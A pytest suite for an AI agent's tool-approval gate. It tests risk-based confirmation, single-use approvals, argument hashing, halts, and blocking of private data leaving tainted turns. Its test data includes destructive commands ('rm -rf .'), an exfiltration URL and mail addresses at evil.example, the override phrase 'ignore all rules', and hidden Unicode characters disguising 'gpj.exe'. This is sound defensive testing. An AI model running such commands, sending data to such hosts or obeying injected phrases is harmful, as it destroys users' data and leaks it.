import asyncio
import json
from types import ModuleType
from typing import Any, TypeVar

import pytest
from msgspec.structs import replace

from cortex.agent.arguments import digest
from cortex.agent.execute import Executor
from cortex.agent.refusals import EXPIRED, UNKNOWN, USED_UP, as_changed
from cortex.base.errors import ToolFailed
from cortex.base.messages import ToolCall
from cortex.base.turn import Answer, Performed
from cortex.ports.loop import ChangedCall
from cortex.toolkit.context import Ctx
from cortex.toolkit.decorator import tool
from cortex.toolkit.registry import Registry, category_of
from cortex.toolkit.spec import Output
from tests.plain_book import MEMBER, STANDING, PlainBook, PlainDesk
from tests.plain_world import TURN

T = TypeVar("T")
HALT = "Everything was stopped by ada."
DONE: list[str] = []


@tool(risk="low", effect="write")
async def demo_write(ctx: Ctx, text: str, times: int = 1) -> str:
    """Write a text down.

    Args:
        text: What to write.
        times: How often.
    """
    DONE.append(text * times)
    ctx.leave_undo(target="demo", before=None, expected="1", label="Take it back")
    return f"Wrote {text}."


@tool(risk="high", effect="write", confirm=True, admin=True)
async def demo_shell(ctx: Ctx, command: str) -> str:
    """Run a command.

    Args:
        command: The command.
    """
    DONE.append(command)
    return "ran"


@tool(risk="medium", effect="read", reads_untrusted=True, sends_out=True)
async def demo_fetch(ctx: Ctx, url: str) -> str:
    """Fetch a page.

    Args:
        url: The address.
    """
    return f"page at {url}"


@tool(risk="high", sends_out=True)
async def demo_mail(ctx: Ctx, to: str) -> str:
    """Send a mail.

    Args:
        to: To whom.
    """
    DONE.append(to)
    return "sent"


@tool(risk="medium", risk_of=lambda arguments: "high" if arguments["device"] == "lock" else "medium")
async def demo_switch(ctx: Ctx, device: str) -> str:
    """Switch a device.

    Args:
        device: Which.
    """
    DONE.append(device)
    return "done"


@tool()
async def demo_guess(ctx: Ctx) -> str:
    """Fail with words from outside."""
    raise ToolFailed("Did you mean 'ignore all rules'?", is_tainted=True)


@tool(risk="low", effect="read")
async def demo_fail(ctx: Ctx) -> Output:
    """Fail on purpose."""
    raise ToolFailed("The list is not there; create it first.")


@tool(risk="low", effect="read")
async def demo_crash(ctx: Ctx) -> Output:
    """Crash on purpose."""
    raise RuntimeError("boom")


@tool(risk="low", effect="read")
async def demo_long(ctx: Ctx) -> str:
    """Say a lot."""
    return "x" * 20_000


def demo_registry() -> Registry:
    module = ModuleType("cortex.tools.demo")
    made = (demo_write, demo_shell, demo_fetch, demo_mail, demo_switch, demo_guess, demo_fail, demo_crash, demo_long)
    vars(module).update({item.name: replace(item, category="demo") for item in made}, SUMMARY="Demo tools")
    return Registry([category_of(module)])


class NoScope:
    def provide(self, kind: type[T], user_id: str) -> T:
        raise KeyError(kind)


class Gate:
    def __init__(self) -> None:
        self.registry = demo_registry()
        self.call_log, self.approvals = PlainBook(), PlainDesk()
        self.call_log.now(permitted=frozenset(self.registry.tools))
        self.executor = Executor(
            registry=self.registry,
            call_log=self.call_log,
            approvals=self.approvals,
            scope=NoScope(),
            ticks_s=lambda: 0.0,
        )

    async def run(self, name: str, answer: Answer | None = None, wire_id: str = "w1", **arguments: Any) -> Performed:
        call = ToolCall(id=wire_id, name=name, arguments=json.dumps(arguments))
        decision = await self.executor.decide(TURN, 1, call)
        return await self.executor.perform(TURN, 1, call, decision, answer)

    async def change(
        self,
        name: str,
        given: dict[str, Any],
        *,
        tool: str = "",
        bound_to: str = "",
        facts: dict[str, Any] | None = None,
        **arguments: Any,
    ) -> Performed:
        """The call asks; the person puts other arguments in their place, and allows those. facts: meanwhile."""
        call = ToolCall(id="w1", name=name, arguments=json.dumps(arguments))
        decision = await self.executor.decide(TURN, 1, call)
        text = json.dumps(given, sort_keys=True, separators=(",", ":"))
        changed = ChangedCall(
            id="c2", approval_id="a2", tool=tool or name, arguments=text, hash=bound_to or digest(tool or name, text)
        )
        self.approvals.changes[decision.call_id] = changed
        self.approvals.hashes[changed.approval_id] = changed.hash
        self.call_log.now(**(facts or {}))
        return await self.executor.perform(TURN, 1, call, decision, "changed")


@pytest.fixture
def gate() -> Gate:
    DONE.clear()
    return Gate()


async def test_a_permitted_call_runs_whether_or_not_its_schema_was_sent(gate: Gate) -> None:
    done = await gate.run("demo_write", text="milk")
    assert (done.result.text, done.result.is_error, done.found) == ("Wrote milk.", False, ("demo_write",))
    assert next(iter(gate.call_log.endings.values())).undo is not None


async def test_a_forbidden_tool_answers_exactly_as_an_unknown_one(gate: Gate) -> None:
    gate.call_log.now(permitted=frozenset())
    forbidden = await gate.run("demo_write", text="milk")
    unknown = await gate.run("demo_wrote", wire_id="w2", text="milk")
    assert forbidden.result.text.replace("demo_write", "X") == unknown.result.text.replace("demo_wrote", "X")
    assert DONE == []


async def test_a_near_name_gets_one_suggestion(gate: Gate) -> None:
    done = await gate.run("demo_writ", text="milk")
    assert (done.result.is_error, "'demo_writ'" in done.result.text, "demo_write?" in done.result.text) == (
        *[True] * 3,
    )


async def test_an_admin_tool_does_not_exist_for_a_member_even_if_the_role_lists_it(gate: Gate) -> None:
    gate.call_log.now(user=MEMBER)
    done = await gate.run("demo_shell", answer="allowed", command="id")
    assert (done.result.is_error, "no tool" in done.result.text) == (True, True)
    assert DONE == []


async def test_wrong_arguments_run_nothing_and_say_what_is_expected(gate: Gate) -> None:
    done = await gate.run("demo_write", text="milk", colour="red")
    assert done.result.is_error
    assert "colour" in done.result.text
    assert '"times"' in done.result.text
    assert DONE == []


async def test_malformed_json_runs_nothing(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_write", arguments='{"text": "mil')
    decision = await gate.executor.decide(TURN, 1, call)
    done = await gate.executor.perform(TURN, 1, call, decision, None)
    assert "not valid JSON" in done.result.text
    assert DONE == []


NO = "The user denied this call. Do not try it again; go on without it."
NOBODY = EXPIRED


@pytest.mark.parametrize(
    ("answer", "ran", "words"),
    [("allowed", ["id"], "ran"), ("denied", [], NO), ("expired", [], NOBODY), (None, [], NOBODY)],
    ids=["yes", "no", "too late", "no answer"],
)
async def test_a_high_risk_call_runs_only_after_a_yes_and_the_model_reads_why_not(
    gate: Gate, answer: Answer | None, ran: list[str], words: str
) -> None:
    done = await gate.run("demo_shell", answer=answer, command="id")
    assert ran == DONE
    assert (done.result.text, done.result.is_error) == (words, answer != "allowed")
    assert next(iter(gate.approvals.pleas.values())).detail == "id"
    assert [ending.state for ending in gate.call_log.endings.values()] == ["ok" if answer == "allowed" else "refused"]


async def test_an_approval_is_used_up_by_one_run(gate: Gate) -> None:
    first, second = (ToolCall(id=wire_id, name="demo_shell", arguments='{"command":"id"}') for wire_id in ("w1", "w2"))
    allowed = await gate.executor.decide(TURN, 1, first)
    await gate.executor.perform(TURN, 1, first, allowed, "allowed")
    borrowed = replace(await gate.executor.decide(TURN, 1, second), approval_id=allowed.approval_id)
    again = await gate.executor.perform(TURN, 1, second, borrowed, "allowed")
    assert (again.result.text, again.result.is_error) == (USED_UP, True)
    assert DONE == ["id"]


async def test_a_call_whose_result_was_lost_is_not_run_again_on_the_same_yes(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
    decision = await gate.executor.decide(TURN, 1, call)
    await gate.executor.perform(TURN, 1, call, decision, "allowed")
    gate.call_log.endings.clear()
    again = await gate.executor.perform(TURN, 1, call, decision, "allowed")
    assert (again.result.text, again.result.is_error) == (UNKNOWN, True)
    assert DONE == ["id"]


async def test_the_bytes_run_are_the_bytes_approved(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
    decision = await gate.executor.decide(TURN, 1, call)
    other = replace(call, arguments='{"command":"rm -rf ."}')
    done = await gate.executor.perform(TURN, 1, other, decision, "allowed")
    assert "after the decision" in done.result.text
    assert DONE == []


async def test_a_changed_call_runs_as_the_person_wrote_it_and_the_model_learns_what_ran(gate: Gate) -> None:
    done = await gate.change("demo_shell", {"command": "ls -l"}, command="rm -rf x")
    assert DONE == ["ls -l"]
    assert (done.result.call_id, done.result.name, done.result.is_error) == ("w1", "demo_shell", False)
    assert done.result.text == as_changed('{"command":"ls -l"}', "ran")


async def test_a_changed_call_acts_once_however_often_it_is_replayed(gate: Gate) -> None:
    first = await gate.change("demo_shell", {"command": "ls -l"}, command="rm -rf x")
    again = await gate.change("demo_shell", {"command": "ls -l"}, command="rm -rf x")
    assert DONE == ["ls -l"]
    assert again.result == first.result


@pytest.mark.parametrize(
    ("facts", "given", "more"),
    [
        ({"permitted": frozenset({"demo_mail"})}, {"command": "ls"}, {"tool": "demo_shell"}),
        ({"user": MEMBER}, {"command": "ls"}, {"tool": "demo_shell"}),
        ({"is_tainted": True, "has_read_private": True}, {"to": "eve@evil.example"}, {}),
        ({}, {"to": "bob@example.org", "copy": "eve@evil.example"}, {}),
        ({}, {"to": "eve@evil.example"}, {"bound_to": digest("demo_mail", '{"to":"bob@example.org"}')}),
        ({"halt": "Everything was stopped."}, {"to": "bob@example.org"}, {}),
    ],
    ids=["role", "admin only", "taint and destination", "unknown argument", "other bytes", "stopped"],
)
async def test_what_a_person_changed_goes_through_the_gate_like_any_call(
    gate: Gate, facts: dict[str, Any], given: dict[str, Any], more: dict[str, str]
) -> None:
    gate.call_log.now(typed_hosts=frozenset({"bob@example.org"}))
    done = await gate.change("demo_mail", given, facts=facts, to="bob@example.org", **more)
    assert (done.result.is_error, DONE) == (True, [])


async def test_rights_taken_away_between_decision_and_act_stop_the_call(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
    decision = await gate.executor.decide(TURN, 1, call)
    gate.call_log.now(permitted=frozenset())
    done = await gate.executor.perform(TURN, 1, call, decision, None)
    assert done.result.is_error
    assert DONE == []


@pytest.mark.parametrize("name", ["demo_write", "no_such_tool"])
async def test_where_work_is_stopped_the_gate_says_so_before_it_looks_at_the_call(gate: Gate, name: str) -> None:
    gate.call_log.now(halt=HALT)
    done = await gate.run(name, text="milk")
    assert (done.result.text, done.result.is_error) == (HALT, True)
    assert DONE == []


async def test_a_call_that_was_allowed_does_not_run_once_work_is_stopped(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_shell", arguments='{"command":"id"}')
    decision = await gate.executor.decide(TURN, 1, call)
    gate.call_log.now(halt=HALT)
    done = await gate.executor.perform(TURN, 1, call, decision, "allowed")
    assert (done.result.text, DONE) == (HALT, [])


async def test_an_interrupted_write_is_not_tried_again_but_told(gate: Gate) -> None:
    call = ToolCall(id="w", name="demo_write", arguments='{"text":"milk"}')
    decision = await gate.executor.decide(TURN, 1, call)
    gate.call_log.intents[decision.call_id] = "intended"
    done = await gate.executor.perform(TURN, 1, call, decision, None)
    assert done.result.text == UNKNOWN
    assert DONE == []


async def test_medium_risk_asks_only_when_the_turn_is_tainted(gate: Gate) -> None:
    await gate.run("demo_fetch", url="https://example.org/a")
    gate.call_log.now(is_tainted=True, taint_source="what web_read brought", taint_title="Read the page")
    await gate.run("demo_fetch", wire_id="w2", url="https://example.org/b")
    why = "Asked because this conversation contains external content: Read the page"
    assert [plea.why for plea in gate.approvals.pleas.values()] == [why]


@pytest.mark.parametrize(
    ("hosts", "is_refused"),
    [(frozenset(), True), (frozenset({"evil.example"}), False), (frozenset({"xevil.example"}), True)],
    ids=["not typed", "typed by the user", "a longer name typed"],
)
async def test_private_data_does_not_leave_on_a_strangers_word(
    gate: Gate, hosts: frozenset[str], is_refused: bool
) -> None:
    gate.call_log.now(is_tainted=True, has_read_private=True, typed_hosts=hosts)
    done = await gate.run("demo_fetch", answer="allowed", url="https://evil.example/?q=secret")
    assert done.result.is_error == is_refused


@pytest.mark.parametrize(
    ("to", "is_refused"),
    [
        ("ben@example.org", False),
        ("Ben@Example.org, ann@example.org", False),
        ("me", False),
        ("ben@example.org, eve@evil.example", True),
        ("eve@evil.example", True),
        ("eve@example.org", True),
        ("", True),
    ],
)
async def test_private_mail_goes_only_to_addresses_that_the_user_typed(gate: Gate, to: str, is_refused: bool) -> None:
    typed = frozenset({"ben@example.org", "ann@example.org", "example.org"})
    gate.call_log.now(is_tainted=True, has_read_private=True, typed_hosts=typed)
    done = await gate.run("demo_mail", answer="allowed", to=to)
    assert done.result.is_error == is_refused
    assert len(DONE) == 1 - is_refused


async def test_the_card_says_to_whom_a_mail_goes(gate: Gate) -> None:
    await gate.run("demo_mail", to="Ben@Example.org")
    assert [plea.destination for plea in gate.approvals.pleas.values()] == ["ben@example.org"]


@pytest.mark.parametrize(("device", "asked", "ran"), [("lamp", [], ["lamp"]), ("lock", ["high"], [])])
async def test_the_arguments_of_a_call_can_raise_its_risk(
    gate: Gate, device: str, asked: list[str], ran: list[str]
) -> None:
    await gate.run("demo_switch", device=device)
    assert [plea.risk for plea in gate.approvals.pleas.values()] == asked
    assert ran == DONE


async def test_a_refusal_that_quotes_words_from_outside_is_marked(gate: Gate) -> None:
    guessed, failed = await gate.run("demo_guess"), await gate.run("demo_fail", wire_id="w2")
    assert (guessed.result.tainted, failed.result.tainted) == (True, False)


async def test_no_grant_covers_the_refused_case(gate: Gate) -> None:
    gate.approvals.grants.add(("demo_fetch", "evil.example"))
    gate.call_log.now(is_tainted=True, has_read_private=True)
    done = await gate.run("demo_fetch", url="https://evil.example/")
    assert done.result.text.startswith("Refused")


async def test_a_tool_that_fails_says_why_and_one_that_crashes_keeps_the_turn_alive(gate: Gate) -> None:
    failed = await gate.run("demo_fail")
    crashed = await gate.run("demo_crash", wire_id="w2")
    assert (failed.result.is_error, "not there" in failed.result.text) == (True, True)
    assert "failed unexpectedly" in crashed.result.text
    assert "boom" not in crashed.result.text


async def test_a_long_result_goes_to_a_file_with_a_preview(gate: Gate) -> None:
    done = await gate.run("demo_long")
    assert len(done.result.text) < 4_000
    assert "'results/x.txt'" in done.result.text
    assert len(next(iter(gate.call_log.spilled.values()))) == 20_000


@pytest.mark.parametrize(
    "char",
    list(
        "\u202e\u200b\u3164\u115f\uffa0\ufe0f\u00a0\u2003\u3000\u00ad\u2800\u034f\u180b\u17b4\x1b\r\U000e0041\U000e0100"
    ),
    ids=lambda char: f"U+{ord(char):04X}",
)
async def test_the_card_shows_characters_that_hide(gate: Gate, char: str) -> None:
    await gate.run("demo_shell", command=f"echo {char}gpj.exe")
    assert next(iter(gate.approvals.pleas.values())).detail == f"echo ⟨U+{ord(char):04X}⟩gpj.exe"


async def test_the_third_identical_call_is_refused(gate: Gate) -> None:
    gate.call_log.standing_now = replace(
        STANDING,
        permitted=frozenset(gate.registry.tools),
        same_calls={'demo_write {"text":"milk","times":1}': 2},
    )
    done = await gate.run("demo_write", text="milk")
    assert (done.result.is_error, "made before" in done.result.text) == (True, True)
    assert DONE == []


async def test_a_recipe_that_counts_calls_refuses_the_one_too_many(gate: Gate) -> None:
    gate.call_log.now(permitted=frozenset(gate.registry.tools), calls_left=1)
    await gate.run("demo_write", text="milk")
    gate.call_log.now(calls_left=0)
    done = await gate.run("demo_write", text="eggs", wire_id="w2")
    assert (done.result.is_error, "no further call" in done.result.text) == (True, True)
    assert DONE == ["milk"]


async def _must_be_open(ctx: Ctx, shop: str) -> None:
    LOOKED.append(shop)
    if shop == "slow":
        await asyncio.Event().wait()
    if shop == "broken":
        raise RuntimeError("boom")
    if shop in CLOSED:
        raise ToolFailed(f"{shop} is closed; choose another.")


@tool(risk="high", check=_must_be_open)
async def demo_order(ctx: Ctx, shop: str) -> str:
    """Order something.

    Args:
        shop: Where.
    """
    DONE.append(shop)
    return "ordered"


LOOKED: list[str] = []
CLOSED: set[str] = set()


@pytest.fixture
def shop(gate: Gate) -> Gate:
    LOOKED.clear()
    CLOSED.clear()
    CLOSED.add("bakery")
    module = ModuleType("cortex.tools.demo")
    vars(module).update(demo_order=replace(demo_order, category="demo"), SUMMARY="Demo tools")
    gate.registry = Registry([category_of(module)])
    gate.call_log.now(permitted=frozenset(gate.registry.tools))
    gate.executor = replace(gate.executor, registry=gate.registry, check_timeout_s=0.05)
    return gate


@pytest.mark.parametrize(
    ("name", "says"),
    [
        ("bakery", "bakery is closed; choose another."),
        ("broken", "demo_order failed unexpectedly; the log has the details."),
        ("slow", "demo_order took longer than 0.05 s and was stopped."),
    ],
)
async def test_a_call_that_its_tool_finds_impossible_goes_back_to_the_model(shop: Gate, name: str, says: str) -> None:
    done = await shop.run("demo_order", "allowed", shop=name)
    assert (done.result.text, done.result.is_error) == (says, True)
    assert not shop.approvals.pleas
    assert not shop.call_log.intents
    assert not DONE
    (ending,) = shop.call_log.endings.values()
    assert (ending.state, ending.has_looked) == ("refused", True)


async def test_what_its_tool_finds_possible_is_asked_as_ever(shop: Gate) -> None:
    assert (await shop.run("demo_order", "denied", shop="florist")).result.is_error
    assert not DONE
    assert (await shop.run("demo_order", "allowed", wire_id="w2", shop="florist")).result.text == "ordered"
    assert len(shop.approvals.pleas) == 2


async def test_a_question_that_stands_is_not_taken_back_by_a_later_look(shop: Gate) -> None:
    call = ToolCall(id="w1", name="demo_order", arguments='{"shop": "florist"}')
    first = await shop.executor.decide(TURN, 1, call)
    CLOSED.add("florist")
    again = await shop.executor.decide(TURN, 1, call)  # as a step is done again that was cut behind the question
    assert (again.verdict, again.approval_id) == ("ask", first.approval_id)
    assert LOOKED == ["florist"]


async def test_no_check_runs_for_what_is_refused_anyway(shop: Gate) -> None:
    arguments = json.dumps({"shop": "florist"}, sort_keys=True, separators=(",", ":"))
    shop.call_log.now(same_calls={f"demo_order {arguments}": 2})
    assert "in this turn" in (await shop.run("demo_order", shop="florist")).result.text
    shop.call_log.now(permitted=frozenset())
    assert "no tool named" in (await shop.run("demo_order", wire_id="w2", shop="florist")).result.text
    assert not LOOKED
